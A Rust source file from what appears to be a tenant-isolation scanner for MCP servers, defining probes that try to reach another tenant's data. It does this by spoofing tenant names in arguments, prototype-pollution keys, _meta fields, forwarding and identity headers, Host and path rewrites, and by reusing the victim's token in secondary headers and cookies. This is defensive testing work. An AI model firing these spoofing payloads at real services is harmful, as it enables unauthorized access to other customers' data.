//! A tenant's name in places that only the caller fills.

use partywall_model::{Layer, Severity};
use serde_json::{Value, json};

use crate::{
    arguments::{self, Role, role},
    facts::Facts,
    probes::{
        Probe, Technique,
        attempt::{self, Refusal, as_tool},
    },
    site::{Party, Reading, Site},
    survey::Tool,
    tally::Tally,
    target::Request,
};

pub(super) static PROBE: Probe = Probe::new(
    "spoofed-tenant",
    Layer::Identity,
    Severity::High,
    "Names another tenant in arguments, metadata, headers, the address and a second credential.",
    include_str!("spoofed_tenant.md"),
    &[
        Technique::new(
            "ID-17",
            "another tenant in a tool's arguments, declared or not",
            Severity::High,
            |site| Box::pin(arguments_name_it(site)),
        )
        .quick(),
        Technique::new("ID-18", "another tenant nested in filters and options", Severity::High, |site| {
            Box::pin(nested(site))
        }),
        Technique::new("ID-19", "another tenant in _meta and clientInfo", Severity::High, |site| {
            Box::pin(meta(site))
        }),
        Technique::new("ID-20", "another tenant in forwarding headers", Severity::High, |site| {
            Box::pin(headers(site))
        }),
        Technique::new("ID-21", "a second credential beside the caller's own", Severity::High, |site| {
            Box::pin(second_credential(site))
        })
        .quick(),
        Technique::new("ID-24", "another tenant in the path or the host", Severity::High, |site| {
            Box::pin(address(site))
        }),
    ],
);

const NAMES: [&str; 15] = [
    "tenant",
    "tenant_id",
    "tenantId",
    "org",
    "org_id",
    "orgId",
    "organization",
    "organization_id",
    "organizationId",
    "account",
    "account_id",
    "workspace",
    "workspace_id",
    "user_id",
    "owner",
];

/// What may name the victim: its name, and what it is called in what it is shown.
fn names_of(victim: &Party, site: &Site) -> Vec<Value> {
    let mut names = vec![json!(victim.tenant)];
    for (_, facts) in site.readings_of(&victim.tenant) {
        for (path, text) in facts.leaves() {
            if role(crate::facts::key(path)) == Role::Tenant
                && !names.contains(&json!(text))
                && names.len() < 4
            {
                names.push(json!(text));
            }
        }
    }
    names
}

/// Sends variants of readings that the attacker may read, each with something that names the victim.
async fn variants<F>(site: &Site, refusal: Refusal, mut make: F) -> Tally
where
    F: FnMut(&Party, &Party, &Reading) -> Vec<Request> + Send,
{
    let readings = match attempt::telling(site) {
        Ok(readings) => readings,
        Err(tally) => return *tally,
    };
    let mut tally = Tally::default();
    for (attacker, victim) in site.directions() {
        for reading in attempt::turns(site, &readings) {
            if !attempt::control(&mut tally, site, attacker, reading).await {
                continue;
            }
            for request in make(attacker, victim, reading) {
                if tally.has_leaked() || site.target.late() {
                    return tally;
                }
                let exchange = attacker.caller.send(request).await;
                attempt::weigh(&mut tally, site, &attacker.tenant, reading, &exchange, refusal);
            }
        }
    }
    tally
}

fn call(attacker: &Party, reading: &Reading, more: &[(&str, Value)]) -> Option<Request> {
    let (name, arguments) = as_tool(reading)?;
    let mut arguments = arguments.as_object().cloned().unwrap_or_default();
    for (key, value) in more {
        arguments.insert((*key).to_owned(), value.clone());
    }
    Some(attacker.caller.request("tools/call", json!({"name": name, "arguments": arguments})))
}

async fn arguments_name_it(site: &Site) -> Tally {
    let mut tally = declared(site).await;
    let undeclared = variants(site, Refusal::Fine, |attacker, victim, reading| {
        names_of(victim, site)
            .iter()
            .flat_map(|name| NAMES.map(|key| (key, name.clone())))
            .filter_map(|more| call(attacker, reading, &[more]))
            .collect()
    })
    .await;
    tally.merge(undeclared);
    tally
}

/// Arguments in which a place names a tenant.
fn naming(arguments: &Value, place: &str, name: Value) -> Value {
    let mut arguments = arguments.as_object().cloned().unwrap_or_default();
    arguments.insert(place.to_owned(), name);
    Value::Object(arguments)
}

/// Whether the attacker is shown the same when it names itself, or nobody.
async fn shown_as_well(
    site: &Site,
    attacker: &Party,
    place: &str,
    (tool, arguments): (&Tool, &Value),
    alone: &Facts,
) -> bool {
    let mut nobody = arguments.as_object().cloned().unwrap_or_default();
    nobody.remove(place);
    let names = names_of(attacker, site).into_iter().map(|name| naming(arguments, place, name));
    for arguments in names.chain([Value::Object(nobody)]) {
        let exchange = attacker.caller.call(&tool.name, &arguments).await;
        let same = |facts: Facts| alone.holds_in(&facts) && alone.more_in(&facts, None).is_none();
        if exchange.success().map(Facts::of).is_some_and(same) {
            return true;
        }
    }
    false
}

/// A tool that asks for the tenant takes it from the caller: asked for the victim, it must refuse or show nothing of him.
async fn declared(site: &Site) -> Tally {
    let mut tally = Tally::default();
    for (attacker, victim) in site.directions() {
        for (reading, alone) in site.readings_of(&victim.tenant) {
            let Some((tool, arguments)) = as_tool(reading) else { continue };
            let Some(tool) = attacker.surface.tool(tool) else { continue };
            let place = arguments::properties(&tool.schema)
                .into_iter()
                .find(|(name, ..)| role(name) == Role::Tenant)
                .map(|(name, ..)| name.to_owned());
            let Some(place) = place else { continue };
            for name in names_of(victim, site) {
                let exchange = attacker.caller.call(&tool.name, &naming(arguments, &place, name)).await;
                let facts = exchange.success().map(Facts::of);
                let victims = facts.as_ref().is_some_and(|facts| !alone.is_empty() && alone.holds_in(facts));
                if victims && shown_as_well(site, attacker, &place, (tool, arguments), alone).await {
                    // Whoever takes the tenant from the token ignores the argument; and a list may be everybody's.
                    attempt::denied(&mut tally, site, &attacker.tenant, &exchange);
                    attempt::doubt_blind(&mut tally, site, &[reading]);
                } else if victims {
                    let why = format!(
                        "{} named {} in the argument {place:?} of {} and was shown what {} is shown",
                        attacker.tenant, victim.tenant, tool.name, victim.tenant
                    );
                    tally.leak(vec![attempt::shown(site, &exchange, why)]);
                } else {
                    attempt::denied(&mut tally, site, &attacker.tenant, &exchange);
                }
                if tally.has_leaked() {
                    return tally;
                }
            }
            attempt::control(&mut tally, site, victim, reading).await;
        }
    }
    tally
}

async fn nested(site: &Site) -> Tally {
    variants(site, Refusal::Fine, |attacker, victim, reading| {
        let name = json!(victim.tenant);
        let inner =
            json!({"tenant": name, "tenant_id": name, "tenantId": name, "org_id": name, "user_id": name});
        [
            "filter",
            "filters",
            "where",
            "options",
            "context",
            "params",
            "__proto__",
            "constructor",
            "metadata",
            "scope",
        ]
        .iter()
        .flat_map(|key| [(*key, inner.clone()), (*key, json!([inner])), (*key, json!(inner.to_string()))])
        .filter_map(|more| call(attacker, reading, &[more]))
        .collect()
    })
    .await
}

async fn meta(site: &Site) -> Tally {
    variants(site, Refusal::Fine, |attacker, victim, reading| {
        let (method, params) = reading.what.message();
        let name = json!(victim.tenant);
        let metas = [
            json!({"tenant": name, "tenant_id": name, "tenantId": name, "org_id": name, "user_id": name, "user": name}),
            json!({"example.com/tenant": name, "x-tenant-id": name, "auth": {"tenant": name}}),
            json!({"io.modelcontextprotocol/clientInfo": {"name": name, "version": "1"}}),
            json!({"headers": {"x-tenant-id": name, "authorization": format!("Bearer {}", victim.tenant)}}),
        ];
        metas
            .into_iter()
            .map(|meta| {
                let mut params = params.clone();
                if let Some(params) = params.as_object_mut() {
                    params.insert("_meta".to_owned(), meta);
                }
                attacker.caller.request(method, params)
            })
            .collect()
    })
    .await
}

const HEADERS: [&str; 24] = [
    "x-tenant-id",
    "x-tenant",
    "tenant",
    "tenant-id",
    "x-org",
    "x-org-id",
    "x-organization-id",
    "x-account-id",
    "x-workspace-id",
    "x-user",
    "x-user-id",
    "x-username",
    "x-forwarded-user",
    "x-forwarded-email",
    "x-auth-request-user",
    "x-auth-request-email",
    "x-remote-user",
    "remote-user",
    "x-ms-client-principal",
    "x-ms-client-principal-name",
    "x-goog-authenticated-user-email",
    "x-mcp-tenant",
    "x_tenant_id",
    "baggage",
];

async fn headers(site: &Site) -> Tally {
    variants(site, Refusal::Fine, |attacker, victim, reading| {
        let name = &victim.tenant;
        let plain = || reading.what.request(&attacker.caller);
        let mut all: Vec<Request> = Vec::new();
        for header in HEADERS {
            let value =
                if header == "baggage" { format!("tenant={name},tenant.id={name}") } else { name.clone() };
            all.push(plain().header(header, &value));
        }
        all.push(HEADERS.iter().fold(plain(), |request, header| request.header(header, name)));
        all.push(plain().header("x-tenant-id", &attacker.tenant).header("x-tenant-id", name));
        all.push(plain().header("forwarded", &format!("for=127.0.0.1;host={name}.example.com")));
        all.push(
            plain()
                .header("x-original-url", &format!("/{name}/mcp"))
                .header("x-rewrite-url", &format!("/{name}/mcp")),
        );
        all.push(plain().header("x-real-ip", "127.0.0.1").header("x-forwarded-for", "127.0.0.1"));
        all
    })
    .await
}

async fn second_credential(site: &Site) -> Tally {
    variants(site, Refusal::Fine, |attacker, victim, reading| {
        let Some(theirs) = victim.caller.token() else { return Vec::new() };
        // A request that carries both tokens may be refused or be the caller's, whose token stands where it belongs; a
        // target that takes the other one is led by a place that proxies do not check.
        let plain = || reading.what.request(&attacker.caller);
        let mut all: Vec<Request> = [
            "x-api-key",
            "api-key",
            "x-auth-token",
            "x-access-token",
            "x-token",
            "token",
            "cookie",
            "proxy-authorization",
        ]
        .iter()
        // Two tokens in the place where tokens belong are no second place.
        .filter(|header| attacker.caller.target().token_header() != Some(**header))
        .map(|header| {
            let value = match *header {
                "cookie" => format!("token={theirs}; access_token={theirs}; session={theirs}"),
                "proxy-authorization" => format!("Bearer {theirs}"),
                _ => theirs.to_owned(),
            };
            plain().header(header, &value)
        })
        .collect();
        let mut url = attacker.caller.target().url.clone();
        url.query_pairs_mut().append_pair("access_token", theirs).append_pair("token", theirs);
        all.push(plain().to(url));
        all
    })
    .await
}

async fn address(site: &Site) -> Tally {
    variants(site, Refusal::Fine, |attacker, victim, reading| {
        let target = attacker.caller.target();
        let path = target.url.path().trim_end_matches('/').to_owned();
        let name = &victim.tenant;
        let plain = || reading.what.request(&attacker.caller);
        let mut all: Vec<Request> = [
            format!("/{name}{path}"),
            format!("{path}/{name}"),
            format!("/tenants/{name}{path}"),
            format!("/t/{name}{path}"),
        ]
        .iter()
        .map(|path| plain().to(target.at(path)))
        .collect();
        let mut url = target.url.clone();
        url.query_pairs_mut()
            .append_pair("tenant", name)
            .append_pair("tenant_id", name)
            .append_pair("org", name);
        all.push(plain().to(url));
        all.push(plain().header("x-forwarded-host", &format!("{name}.example.com")));
        all.push(plain().header("host", &format!("{name}.example.com")));
        all
    })
    .await
}
